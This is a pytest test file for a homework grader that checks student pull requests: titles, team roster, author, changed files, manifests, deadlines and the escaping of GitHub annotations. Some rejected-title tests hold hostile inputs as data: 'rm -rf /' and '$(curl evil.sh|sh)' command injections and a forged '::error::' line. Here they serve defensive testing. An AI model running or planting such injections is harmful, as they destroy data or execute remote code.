"""PR rules (P-codes): titles, roster, author, files, manifests, deadlines; untrusted text stays data."""

from __future__ import annotations

import json
import shutil
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

import pytest
from typer.testing import CliRunner

from grader.cli import app
from grader.course import load_course
from grader.findings import Finding, Location
from grader.validate import check_pull_request, parse_title, validate_manifest
from grader.validate.document import PullRequestContext
from grader.validate.output import escape_property, github_annotation
from grader.validate.pr_rules import manifest_paths_in, quote
from grader.yamlio import load_yaml_text

FIXTURES = Path(__file__).parent / "fixtures" / "manifests"
COURSE = load_course(FIXTURES / "course.yaml")
MANIFEST = "submissions/ml_masters/hw-2/submission.yaml"
BEFORE = datetime(2025, 9, 30, 12, 0, tzinfo=UTC)  # HW-2 is due 2025-10-01T23:59+03:00
AFTER = datetime(2025, 10, 2, 0, 0, tzinfo=UTC)


def pr(**changes) -> PullRequestContext:
    base = {
        "number": 12,
        "head_sha": "a" * 40,
        "author": "alice",
        "title": "ml_masters HW-2",
        "base_ref": "lesson-2",
        "changed_files": [MANIFEST, "submissions/ml_masters/hw-2/model/config.json"],
        "labels": [],
    }
    return PullRequestContext(**{**base, **changes})


def check(context: PullRequestContext, *, now: datetime = BEFORE, submission=None) -> list[Finding]:
    return check_pull_request(context, COURSE, submission, manifest_paths_in(context.changed_files), now)


@dataclass(frozen=True)
class Identity:
    """A manifest's team and homework (check_pull_request takes anything with these two)."""

    team: str
    homework: int


def codes(findings: list[Finding]) -> list[str]:
    return sorted(f.code for f in findings)


# --- titles ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("title", "expected"),
    [
        ("ml_masters HW-2", ("ml_masters", 2)),
        ("Ml_Masters  hw 2", ("ml_masters", 2)),
        ("ml_masters HW2", ("ml_masters", 2)),
        ("  ml_masters hw_2 ", ("ml_masters", 2)),
        ("ml_masters Hw–2", ("ml_masters", 2)),  # an en dash, as phones type it
        ("ml_masters ДЗ-2", ("ml_masters", 2)),
        ("ml_masters дз 2", ("ml_masters", 2)),
        ("team-7 HW-12", ("team-7", 12)),
    ],
)
def test_titles_that_are_accepted(title: str, expected: tuple[str, int]) -> None:
    assert parse_title(title) == expected


@pytest.mark.parametrize(
    "title",
    [
        "",
        "HW-2",
        "ml_masters",
        "ml masters HW-2",
        "ml_masters HW-2 final",
        "ml_masters: HW-2",
        "ml_masters HW-",
        "ml_masters HW-٢",  # an Arabic-Indic digit
        'x"; rm -rf / #  HW-1',
        "$(curl evil.sh|sh) HW-1",
        "ml_masters HW-2\n::error::forged",
        "ml_masters\nHW-2",
        "\u212aelvin HW-2",  # the Kelvin sign would case-fold to k
        "ml_mastеrs HW-2",  # a Cyrillic е inside
    ],
)
def test_titles_that_are_rejected(title: str) -> None:
    assert parse_title(title) is None


def test_a_rejected_title_is_quoted_as_data() -> None:
    title = 'x"; rm -rf / #  HW-1\n::error file=README.md::forged'
    [finding] = [f for f in check(pr(title=title)) if f.code == "P001"]
    assert finding.location == Location(file="pull request", field="title")
    assert "\n" not in finding.found
    assert finding.found == quote(title)
    assert finding.found.startswith('"x\\"; rm -rf')
    annotation = github_annotation(finding)
    # one line: the forged `::error` stays inside the message, where GitHub reads no command
    assert annotation.splitlines() == [annotation]
    assert "\\n::error file=README.md" in annotation
    assert annotation.startswith("::error title=P001 title::")


def test_quote_bounds_length_and_escapes_control_characters() -> None:
    assert quote("a\tb\x1b[31m") == '"a\\tb\\x1b[31m"'
    assert len(quote("x" * 1000)) < 130


def test_escaping_of_workflow_command_properties() -> None:
    assert escape_property("a:b,c%d\ne") == "a%3Ab%2Cc%25d%0Ae"


# --- roster, author, files, manifests -------------------------------------------------------------


def test_a_good_pr_has_no_findings() -> None:
    assert check(pr()) == []


def test_team_not_on_the_roster() -> None:
    [finding] = check(pr(title="ml_master HW-2"))  # no P004 as well: the team's folder is unknown
    assert finding.code == "P002"
    assert "did you mean 'ml_masters'" in finding.hint


def test_author_not_in_the_team() -> None:
    [finding] = check(pr(author="carol"))
    assert finding.code == "P003" and finding.location.field == "author"
    assert "member of compressors" in finding.found


def test_with_a_bad_title_author_and_files_are_checked_against_the_manifests_team() -> None:
    context = pr(title="homework 2", author="carol", changed_files=[MANIFEST, "README.md"])
    assert codes(check(context, submission=Identity("ml_masters", 2))) == ["P001", "P003", "P004"]
    assert codes(check(context)) == ["P001"]  # no manifest either: nothing names the team


def test_instructors_may_open_prs_for_any_team() -> None:
    assert check(pr(author="The-Instructor")) == []


def test_files_outside_the_team_folder_are_listed() -> None:
    files = [MANIFEST, "README.md", ".github/workflows/grade.yml", "submissions/compressors/hw-2/x"]
    [finding] = check(pr(changed_files=files))
    assert finding.code == "P004"
    assert finding.found == '"README.md", ".github/workflows/grade.yml", "submissions/compressors/hw-2/x"'


@pytest.mark.parametrize(
    ("files", "count"),
    [
        (["submissions/ml_masters/hw-2/model/config.json"], 0),
        ([MANIFEST, "submissions/ml_masters/hw-3/submission.yaml"], 2),
    ],
)
def test_exactly_one_manifest(files: list[str], count: int) -> None:
    [finding] = check(pr(changed_files=files))
    assert finding.code == "P005"
    assert f"changes {count} submission manifests" in finding.message


# --- homework, deadline, overrides -------------------------------------------------------------------


def test_unknown_homework_in_the_title() -> None:
    [finding] = check(pr(title="ml_masters HW-9"))
    assert finding.code == "P006" and "HW-1, HW-2, HW-3" in finding.expected


def test_deadline() -> None:
    assert check(pr(), now=BEFORE) == []
    [late] = check(pr(), now=AFTER)
    assert late.code == "P008"
    assert "2025-10-01T23:59:00+03:00" in late.message
    assert "deadline-extension" in late.hint
    # a minute before, in another time zone, is still in time
    just_in_time = datetime(2025, 10, 1, 20, 58, tzinfo=UTC).astimezone(timezone(timedelta(hours=-5)))
    assert check(pr(), now=just_in_time) == []
    # a time without a zone is read as UTC, never a crash
    assert codes(check(pr(), now=datetime(2025, 10, 1, 21, 0))) == ["P008"]


def test_closed_homework() -> None:
    findings = check(
        pr(title="ml_masters HW-3", changed_files=["submissions/ml_masters/hw-3/submission.yaml"])
    )
    assert codes(findings) == ["P007"]


def test_the_override_label_lifts_deadline_and_closed() -> None:
    assert check(pr(labels=["deadline-extension"]), now=AFTER) == []
    closed = pr(
        title="ml_masters HW-3",
        changed_files=["submissions/ml_masters/hw-3/submission.yaml"],
        labels=["reopen"],
    )
    assert (
        check_pull_request(
            closed, COURSE, None, [closed.changed_files[0]], BEFORE, override_labels={"reopen"}
        )
        == []
    )


def test_base_branch_other_than_the_homeworks_warns() -> None:
    [finding] = check(pr(base_ref="main"))
    assert finding.code == "P010" and not finding.is_error


def test_manifest_must_match_the_title_and_points_at_its_lines() -> None:
    loaded = load_yaml_text("team: compressors\nhomework: 3\n", MANIFEST)
    findings = check_pull_request(
        pr(),
        COURSE,
        Identity("compressors", 3),
        [MANIFEST],
        BEFORE,
        manifest_file=MANIFEST,
        positions=loaded.positions,
    )
    assert [(f.code, f.location.file, f.location.line) for f in findings] == [
        ("P009", MANIFEST, 1),
        ("P009", MANIFEST, 2),
    ]
    assert check_pull_request(pr(), COURSE, Identity("ml_masters", 2), [MANIFEST], BEFORE) == []


# --- through validate_manifest and the CLI ----------------------------------------------------------


def test_pr_rules_through_the_cli(tmp_path: Path) -> None:
    shutil.copy(FIXTURES / "course.yaml", tmp_path / "course.yaml")
    manifest = tmp_path / MANIFEST
    manifest.parent.mkdir(parents=True)
    shutil.copy(FIXTURES / "valid.yaml", manifest)
    model = manifest.parent / "model"
    model.mkdir()
    (model / "config.json").write_text("{}")
    (model / "model.safetensors").write_bytes(b"\x02\0\0\0\0\0\0\0{}")
    context = pr(title="ml_masters HW-3", author="mallory", event_time=AFTER.isoformat())
    pr_file = tmp_path / "pr.json"
    pr_file.write_text(context.model_dump_json())
    result = CliRunner().invoke(
        app, ["validate", str(manifest), "--repo", str(tmp_path), "--pr", str(pr_file), "--format", "json"]
    )
    assert result.exit_code == 2, result.output
    document = json.loads(result.stdout)
    found = sorted((f["code"], f["location"]["file"]) for f in document["findings"])
    assert found == [
        ("P003", "pull request"),
        ("P007", "pull request"),
        ("P009", MANIFEST),
    ]
    assert document["pull_request"]["author"] == "mallory"
    # the same manifest and a good PR, pushed in time: valid
    pr_file.write_text(pr(event_time=BEFORE.isoformat()).model_dump_json())
    assert CliRunner().invoke(app, ["validate", str(manifest), "--pr", str(pr_file)]).exit_code == 0
    # a regrade later judges the push's time, not the regrade's
    direct = validate_manifest(manifest, COURSE, tmp_path, pr=pr(event_time=BEFORE))
    assert direct.ok


def test_a_broken_pr_file_is_a_located_finding(tmp_path: Path) -> None:
    pr_file = tmp_path / "pr.json"
    pr_file.write_text('{"number": 1,\n "title": }')
    result = CliRunner().invoke(
        app, ["validate", "x.yaml", "--course", str(FIXTURES / "course.yaml"), "--pr", str(pr_file)]
    )
    assert result.exit_code == 2
    assert "D001" in result.output and "pr.json:2" in result.output and "Traceback" not in result.output
    pr_file.write_text('{"number": "one"}')
    result = CliRunner().invoke(
        app, ["validate", "x.yaml", "--course", str(FIXTURES / "course.yaml"), "--pr", str(pr_file)]
    )
    assert result.exit_code == 2 and "D004" in result.output
